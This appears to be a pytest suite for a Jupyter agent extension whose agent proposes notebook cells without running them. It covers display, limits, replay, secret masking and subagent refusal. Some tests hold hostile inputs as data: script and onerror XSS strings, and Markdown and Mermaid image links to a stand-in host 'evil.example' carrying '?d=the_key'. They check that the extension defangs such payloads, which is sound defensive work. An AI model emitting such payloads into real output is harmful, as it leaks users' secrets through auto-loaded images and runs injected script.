"""`%%agent --cells`: the agent proposes cells, shown below the agent cell and never run.

The tool is offered only with `--cells` (or `cells = true`); each proposal becomes a
`cell_proposed` event and one display in the cell's output (JSON for the JupyterLab extension, a
safe listing for everyone else); at most ten per turn; IPython's next-input payload carries the
code only when no extension listens (a real kernel, with and without the extension's comm); and
a strict replay of the research log in a fresh kernel proposes the same cells.
"""

from __future__ import annotations

import json
import os
import re
import uuid
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from langchain_core.messages import ToolMessage
from notebook_shell import Notebook, call, notebook, scripted  # noqa: F401

from jupyter_deepagent.events import CELL_PROPOSED
from jupyter_deepagent.jupyter.session.turns import CELL_METADATA_KEY
from jupyter_deepagent.jupyter.tools.proposed_cells import (
    CELL_KEY_METADATA,
    MAX_PROPOSALS,
    inert_markdown,
)
from jupyter_deepagent.jupyter.views.proposed_cells import CELLS_TARGET, PROPOSALS_MIME

CODE = "import math\nmath.sqrt(2)"
NOTE = "## Why\nThe square root of *two*."


def propose(kind: str, source: str) -> dict[str, Any]:
    return call("propose_cell", kind=kind, source=source)


def results(model: Any) -> list[ToolMessage]:
    return [m for m in model.requests[-1].messages if isinstance(m, ToolMessage)]


def test_the_tool_is_offered_only_with_cells(notebook: Notebook) -> None:
    model = scripted("none here", "now", "by default")
    notebook.session.configure(model=model)
    cell = notebook.run("%%agent\nhello")
    assert "propose_cell" not in model.requests[0].tool_names
    assert cell.bundles(PROPOSALS_MIME) == []  # no display for a run without the tool
    notebook.run("%%agent --cells\nhello again")
    assert "propose_cell" in model.requests[1].tool_names
    notebook.run("%agent config cells=true")
    notebook.run("%%agent\nand again")
    assert "propose_cell" in model.requests[2].tool_names


def test_two_proposals_make_one_display_below_the_cell_and_nothing_runs(
    notebook: Notebook,
) -> None:
    model = scripted(
        {"tool_calls": [{"name": "propose_cell", "args": {"kind": "code", "source": CODE}},
                        {"name": "propose_cell", "args": {"kind": "markdown", "source": NOTE}}]},
        "Two cells for you below.",
    )
    notebook.session.configure(model=model)
    cell = notebook.run("%%agent --cells\nShow me the square root of two as cells.")
    assert cell.error is None
    [data] = cell.bundles(PROPOSALS_MIME)
    assert [(c["kind"], c["source"], c["index"]) for c in data["cells"]] == [
        ("code", CODE, 0), ("markdown", NOTE, 1)]
    assert data["first"] == 0 and data["proposed_by"].startswith(("cell:", "source:"))
    assert "math" not in notebook.shell.user_ns  # proposed, not run
    [plain] = [o.data["text/plain"] for o in cell.displays if PROPOSALS_MIME in o.data]
    assert "[1] code cell\nimport math\nmath.sqrt(2)" in plain
    events = notebook.session.last_trace.of_type(CELL_PROPOSED)
    assert sorted(e["index"] for e in events) == [0, 1]
    assert all(e["cell"] == data["proposed_by"] for e in events)
    assert all("not run" in r.text for r in results(model))
    # terminal IPython and the classic notebook: the code as the next input
    assert notebook.shell.rl_next_input == CODE


def test_a_proposal_is_listed_as_code_never_as_markup(notebook: Notebook) -> None:
    attack = '<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">'
    model = scripted(
        {"tool_calls": [{"name": "propose_cell", "args": {"kind": "markdown", "source": attack}},
                        {"name": "propose_cell", "args": {"kind": "code", "source": f"'{attack}'"}}]},
        "Done.",
    )
    notebook.session.configure(model=model)
    cell = notebook.run("%%agent --cells\npropose")
    [html] = [o.data["text/html"] for o in cell.displays if PROPOSALS_MIME in o.data]
    assert not re.search(r"<(script|img)\b", html) and not re.search(r"<[^>]*onerror", html)
    assert "&lt;script&gt;" in html  # shown as the characters the agent wrote
    assert html.startswith('<div class="jda-text')  # the kernel's cleaned HTML


def test_a_proposed_markdown_cell_loads_nothing_by_itself(notebook: Notebook) -> None:
    # JupyterLab renders a Markdown cell when it is inserted and when the notebook opens, and lets
    # an image at another address through: the address would carry what the model read
    note = (
        "Found it: ![chart](https://evil.example/c.png?d=the_key) and ![r][ref] "
        '<img src="https://evil.example/x"> <video poster="https://evil.example/p">\n'
        "Escaped stays: \\![not an image](x), code `a < b`, a link <https://example.org>.\n\n"
        "[ref]: https://evil.example/r.png\n\n"
        '> ~~~ Mermaid\n> flowchart TD\n>   A@{ img: "https://evil.example/m.png?d=the_key" }\n> ~~~\n'
    )
    notebook.session.configure(model=scripted(propose("markdown", note), "Done."))
    cell = notebook.run("%%agent --cells\npropose a note")
    [bundle] = [o.data[PROPOSALS_MIME] for o in cell.displays if PROPOSALS_MIME in o.data]
    [shown] = [c["source"] for c in bundle["cells"]]
    assert "\\![chart](https://evil.example/c.png?d=the_key)" in shown  # a link, not an image
    assert "\\![r][ref]" in shown and "\\![not an image](x)" in shown
    assert "&lt;img" in shown and "&lt;video" in shown and "<img" not in shown
    assert "<https://example.org>" in shown and "a < b" in shown
    assert "> ~~~ text Mermaid\n> flowchart TD" in shown  # the diagram's source, not a diagram


@pytest.mark.parametrize(
    "fence",
    ["```mermaid", "```\u00a0mermaid", "```\x0cmermaid", "```\u3000mermaid", "```\ufeffmermaid",
     "Intro\r```mermaid", "   ~~~ MERMAID", "> - 1. ```{mermaid}"],
)
def test_no_spelling_of_a_mermaid_fence_is_left_for_jupyterlab_to_draw(fence: str) -> None:
    # JupyterLab's parser trims any white space around the language and breaks lines at a lone \r
    shown = inert_markdown(f"{fence}\nflowchart TD\n  A@{{ img: \"https://evil.example/m\" }}\n```")
    assert "text " in shown and shown.replace("text ", "", 1) == f"{fence}\nflowchart TD\n" + (
        '  A@{ img: "https://evil.example/m" }\n```'
    )


def test_lines_of_many_spaces_or_markers_are_made_inert_at_once() -> None:
    # a pattern that tried every split of a run of spaces would take hours on these
    for line in (" " * 5_000 + "x", " \t" * 5_000 + "x", "1.  " * 5_000 + "x", "> - " * 5_000):
        assert inert_markdown(line) == line


def test_at_most_ten_per_turn_the_eleventh_is_refused(notebook: Notebook) -> None:
    calls = [{"name": "propose_cell", "args": {"kind": "code", "source": f"x = {n}"}}
             for n in range(MAX_PROPOSALS + 1)]
    model = scripted({"tool_calls": calls}, "Done.")
    notebook.session.configure(model=model)
    cell = notebook.run("%%agent --cells\nmany")
    [data] = cell.bundles(PROPOSALS_MIME)
    assert [c["source"] for c in data["cells"]] == [f"x = {n}" for n in range(MAX_PROPOSALS)]
    refused = [r for r in results(model) if r.status == "error"]
    assert len(refused) == 1 and f"at most {MAX_PROPOSALS}" in refused[0].text


def test_an_empty_or_unknown_proposal_is_refused_and_not_counted(notebook: Notebook) -> None:
    model = scripted(
        {"tool_calls": [{"name": "propose_cell", "args": {"kind": "code", "source": "  "}}]},
        propose("code", "y = 1"),
        "Done.",
    )
    notebook.session.configure(model=model)
    cell = notebook.run("%%agent --cells\nempty")
    [data] = cell.bundles(PROPOSALS_MIME)
    assert [(c["source"], c["index"]) for c in data["cells"]] == [("y = 1", 0)]


def test_a_run_offered_the_tool_that_proposes_nothing_says_so(notebook: Notebook) -> None:
    notebook.session.configure(model=scripted("Nothing to propose."))
    cell = notebook.run("%%agent --cells\nnothing")
    [data] = cell.bundles(PROPOSALS_MIME)
    assert data["cells"] == [] and data["first"] == 0  # the extension removes old proposals
    assert getattr(notebook.shell, "rl_next_input", None) in (None, "")


def test_the_tool_reads_the_cell_key_the_session_sets() -> None:
    assert CELL_KEY_METADATA == CELL_METADATA_KEY


def test_with_the_extensions_comm_open_no_next_input_is_sent(notebook: Notebook) -> None:
    comms = {"c1": SimpleNamespace(target_name=CELLS_TARGET)}
    notebook.shell.kernel = SimpleNamespace(comm_manager=SimpleNamespace(comms=comms))
    notebook.shell.rl_next_input = None
    notebook.session.configure(model=scripted(propose("code", CODE), "Done."))
    cell = notebook.run("%%agent --cells\nwith the extension")
    assert len(cell.bundles(PROPOSALS_MIME)) == 1
    assert notebook.shell.rl_next_input is None


# -- a real kernel: the payload, and the extension's comm ---------------------------------------
SCRIPT = """\
profile:
  max_input_tokens: 100000
script:
  - tool_calls:
      - {name: propose_cell, args: {kind: code, source: "total = 1 + 1"}}
      - {name: propose_cell, args: {kind: markdown, source: "## Total"}}
  - Two cells proposed.
"""


def _execute(client: Any, code: str) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """Run `code`; the execute reply's content and the displays it sent."""
    msg_id = client.execute(code, allow_stdin=False)
    displays = []
    while True:
        msg = client.get_iopub_msg(timeout=120)
        if msg["parent_header"].get("msg_id") != msg_id:
            continue
        if msg["msg_type"] in ("display_data", "update_display_data"):
            displays.append(msg["content"]["data"])
        if msg["msg_type"] == "status" and msg["content"]["execution_state"] == "idle":
            break
    reply = client.get_shell_msg(timeout=120)
    while reply["parent_header"].get("msg_id") != msg_id:
        reply = client.get_shell_msg(timeout=120)
    return reply["content"], displays


@pytest.fixture
def kernel(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    from jupyter_client.manager import start_new_kernel

    folder = tmp_path / "project"
    (folder / "scripts").mkdir(parents=True)
    (folder / "scripts" / "cells.yaml").write_text(SCRIPT)
    empty = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (folder / "analysis.ipynb").write_text(json.dumps(empty))
    monkeypatch.setenv("IPYTHONDIR", str(tmp_path / "ipython"))
    monkeypatch.setenv("JUPYTER_DEEPAGENT_WARM_UP", "0")
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}
    manager, client = start_new_kernel(kernel_name="python3", cwd=str(folder), env=env)
    try:
        content, _ = _execute(client, "%load_ext jupyter_deepagent\n"
                              "%agent config model=scripted:scripts/cells.yaml\n"
                              "%agent notebook analysis.ipynb")
        assert content["status"] == "ok", content
        yield client
    finally:
        client.stop_channels()
        manager.shutdown_kernel(now=True)


def _next_inputs(content: dict[str, Any]) -> list[str]:
    return [p["text"] for p in content.get("payload", []) if p.get("source") == "set_next_input"]


@pytest.mark.allow_hosts(["127.0.0.1"])
def test_a_kernel_sends_the_next_input_only_while_no_extension_listens(kernel: Any) -> None:
    content, displays = _execute(kernel, "%%agent --cells\nPropose the total.")
    assert content["status"] == "ok", content
    assert _next_inputs(content) == ["total = 1 + 1"]
    assert any(PROPOSALS_MIME in data for data in displays)

    # the extension opens its comm before it runs a cell: the same run sends no payload
    comm_id = uuid.uuid4().hex
    kernel.shell_channel.send(kernel.session.msg(
        "comm_open", {"comm_id": comm_id, "target_name": CELLS_TARGET, "data": {}}))
    content, displays = _execute(kernel, "%%agent --cells\nPropose the total.")  # replayed
    assert content["status"] == "ok", content
    assert _next_inputs(content) == []
    [data] = [d[PROPOSALS_MIME] for d in displays if PROPOSALS_MIME in d]
    assert [c["source"] for c in data["cells"]] == ["total = 1 + 1", "## Total"]


# -- the research log: a strict replay in a fresh kernel proposes the same cells ------------------
def test_a_strict_replay_in_a_fresh_kernel_proposes_the_same_cells(notebook: Notebook) -> None:
    model = scripted(
        {"tool_calls": [{"name": "propose_cell", "args": {"kind": "code", "source": CODE}},
                        {"name": "propose_cell", "args": {"kind": "markdown", "source": NOTE}}]},
        "Two cells.",
        name="cells",
    )
    notebook.session.configure(model=model)
    request = "%%agent --cells\nSquare root of two, as cells."
    first = notebook.run(request).bundles(PROPOSALS_MIME)
    notebook.restart()
    silent = scripted(name="cells")  # would raise "script is exhausted" if asked
    notebook.session.configure(model=silent, replay="strict")
    replayed = notebook.run(request)
    assert replayed.error is None, replayed.error
    assert silent.requests == []
    assert [c["source"] for c in first[0]["cells"]] == [CODE, NOTE]
    assert replayed.bundles(PROPOSALS_MIME) == first
    assert json.dumps(first[0]["cells"])  # JSON all the way down


def test_a_secret_in_a_proposal_reaches_the_page_masked(
    notebook: Notebook, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DEMO_SERVICE_TOKEN", "tok-secret-value-123")
    source = "token = 'tok-secret-value-123'"
    notebook.session.configure(model=scripted(propose("code", source), "Done."))
    cell = notebook.run("%%agent --cells\npropose the token")
    [data] = cell.bundles(PROPOSALS_MIME)
    [html] = [o.data["text/html"] for o in cell.displays if PROPOSALS_MIME in o.data]
    assert data["cells"][0]["source"] == "token = '***'"
    assert "tok-secret-value-123" not in html + json.dumps(data)
    assert "tok-secret-value-123" not in str(notebook.shell.rl_next_input)


def test_a_subagent_cannot_propose_cells(notebook: Notebook) -> None:
    model = scripted(
        call("task", description="Propose a cell.", subagent_type="general-purpose"),
        propose("code", "from_subagent = 1"),
        "I could not propose it; the code is from_subagent = 1.",
        "Done.",
    )
    notebook.session.configure(model=model)
    cell = notebook.run("%%agent --cells\ndelegate")
    assert cell.error is None
    [data] = cell.bundles(PROPOSALS_MIME)
    assert data["cells"] == []
    refused = [m for r in model.requests for m in r.messages
               if isinstance(m, ToolMessage) and m.name == "propose_cell"]
    assert refused and "only the main agent proposes cells" in refused[-1].text
